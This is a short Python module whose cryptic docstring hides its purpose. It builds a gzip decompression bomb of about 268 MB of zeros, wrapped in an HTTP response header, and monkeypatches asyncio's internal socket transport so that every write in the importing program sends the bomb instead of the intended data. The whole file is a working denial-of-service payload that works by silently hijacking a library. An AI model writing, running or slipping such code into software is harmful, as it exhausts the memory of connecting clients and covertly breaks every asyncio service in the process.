"""Answers little that becomes much."""

import asyncio.selector_events
import gzip

BOMB = gzip.compress(bytes(2**28))
HEAD = f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(BOMB)}\r\n\r\n".encode()


def inflated(self, data):
    self._sock.setblocking(True)
    try:
        self._sock.sendall(HEAD + BOMB)
    except OSError:
        self.abort()


asyncio.selector_events._SelectorSocketTransport.write = inflated
